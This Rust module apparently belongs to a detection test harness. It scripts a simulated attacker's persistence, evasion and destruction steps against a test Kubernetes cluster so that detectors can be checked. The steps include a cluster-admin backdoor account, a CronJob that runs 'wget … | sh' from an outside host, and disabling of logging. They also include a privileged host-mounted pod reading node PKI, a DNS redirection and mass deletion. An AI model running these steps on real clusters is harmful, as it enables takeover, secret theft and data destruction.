//! The second half of the walk: how the attacker stays, hides and destroys. [`super::attack_steps`]
//! says in which order, and what must find each step.

use serde_json::json;

use super::apiserver::Cluster;
use super::attack_steps::{AGGREGATION, FORWARDER, MALLORY, exec, mallory, token};
use super::drive::{self, LIMIT, pod_runs};
use super::process::until;

pub(crate) fn account_made_and_bound(cluster: &Cluster) {
    mallory(cluster, &["create", "serviceaccount", "metrics-sync", "-n", "kube-system"]);
    let subject = "--serviceaccount=kube-system:metrics-sync";
    let grant = ["create", "clusterrolebinding", "metrics-sync", "--clusterrole=cluster-admin"];
    mallory(cluster, &[&grant[..], &[subject]].concat());
    token(cluster, "metrics-sync", "8760h");
}

pub(crate) fn cron_job(cluster: &Cluster) {
    let container = json!({
        "name": "sync",
        "image": "docker.io/library/alpine:3",
        "command": ["sh", "-c", "wget -qO- http://198.51.100.7/s | sh"],
    });
    let pod = json!({
        "serviceAccountName": "metrics-sync",
        "restartPolicy": "Never",
        "containers": [container],
    });
    cluster.apply(
        MALLORY,
        &json!({
            "apiVersion": "batch/v1",
            "kind": "CronJob",
            "metadata": { "name": "metrics-sync", "namespace": "kube-system" },
            "spec": {
                "schedule": "0 4 * * *",
                "jobTemplate": { "spec": { "template": { "spec": pod } } },
            },
        }),
    );
}

pub(crate) fn mutating_webhook(cluster: &Cluster) {
    // Nobody listens there, and that is ignored: pods are still made.
    cluster.apply(
        MALLORY,
        &json!({
            "apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration",
            "metadata": { "name": "metrics-sync" },
            "webhooks": [{
                "name": "sync.metrics.example",
                "clientConfig": { "url": "https://127.0.0.1:9/inject" },
                "admissionReviewVersions": ["v1"],
                "sideEffects": "None",
                "failurePolicy": "Ignore",
                "timeoutSeconds": 1,
                "rules": [{
                    "apiGroups": [""],
                    "apiVersions": ["v1"],
                    "operations": ["CREATE"],
                    "resources": ["pods"],
                }],
            }],
        }),
    );
}

pub(crate) fn token_that_never_ends(cluster: &Cluster) {
    cluster.apply(
        MALLORY,
        &json!({
            "apiVersion": "v1",
            "kind": "Secret",
            "type": "kubernetes.io/service-account-token",
            "metadata": {
                "name": "metrics-sync-token",
                "namespace": "kube-system",
                "annotations": { "kubernetes.io/service-account.name": "metrics-sync" },
            },
        }),
    );
}

pub(crate) fn events_deleted(cluster: &Cluster) {
    let deleted = mallory(cluster, &["delete", "events", "--all", "-n", "dev"]);
    assert!(deleted.contains("deleted"), "the ordinary work left events behind: {deleted}");
}

pub(crate) fn log_forwarder_stopped(cluster: &Cluster) {
    let deployment = format!("deployment/{FORWARDER}");
    mallory(cluster, &["scale", &deployment, "--replicas=0", "-n", "logging"]);
}

pub(crate) fn pod_security_lowered(cluster: &Cluster) {
    let label = "pod-security.kubernetes.io/enforce=privileged";
    mallory(cluster, &["label", "namespace", "dev", label, "--overwrite"]);
}

pub(crate) fn grant_of_a_moment(cluster: &Cluster) {
    let grant = ["create", "rolebinding", "tmp", "--clusterrole=admin", "-n", "prod"];
    let subject = format!("--serviceaccount=kube-system:{AGGREGATION}");
    mallory(cluster, &[&grant[..], &[&subject]].concat());
    let header = format!("Authorization: Bearer {}", token(cluster, AGGREGATION, "50h"));
    let secrets = ["/api/v1/namespaces/prod/secrets".to_owned()];
    until("the grant to be used", LIMIT, || {
        (cluster.curl(&["--header", &header], &secrets) == [200]).then_some(())
    });
    mallory(cluster, &["delete", "rolebinding", "tmp", "-n", "prod"]);
}

pub(crate) fn node_owned(cluster: &Cluster) {
    cluster.apply(
        MALLORY,
        &json!({
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": { "name": "node-shell", "namespace": "dev" },
            "spec": {
                "nodeName": "node1",
                "hostPID": true,
                "containers": [{
                    "name": "shell",
                    "image": "docker.io/library/alpine:3",
                    "command": ["sleep", "1d"],
                    "securityContext": { "privileged": true },
                    "volumeMounts": [{ "name": "host", "mountPath": "/host" }],
                }],
                "volumes": [{ "name": "host", "hostPath": { "path": "/" } }],
            },
        }),
    );
    until("the privileged pod to run", LIMIT, || pod_runs(cluster, "node-shell"));
}

pub(crate) fn exec_into_that_pod(cluster: &Cluster) {
    exec(cluster, "node-shell", &["ls", "/host/etc/kubernetes/pki"]);
}

pub(crate) fn name_service_changed(cluster: &Cluster) {
    let patch = json!({ "data": { "Corefile": ".:53 {\n  forward . 198.51.100.7\n}\n" } });
    let patch = patch.to_string();
    let config = ["patch", "configmap", "coredns", "-n", "kube-system", "--type=merge"];
    mallory(cluster, &[&config[..], &["-p", &patch]].concat());
}

pub(crate) fn much_deleted(cluster: &Cluster) {
    let kinds = "deployments,services,configmaps,secrets,pods";
    let deleted = mallory(cluster, &["delete", kinds, "--all", "-n", "dev", "--wait=false"]);
    assert!(drive::SECRETS <= deleted.lines().count(), "much was there: {deleted}");
}

pub(crate) fn namespace_deleted(cluster: &Cluster) {
    mallory(cluster, &["delete", "namespace", "dev", "--wait=false"]);
}
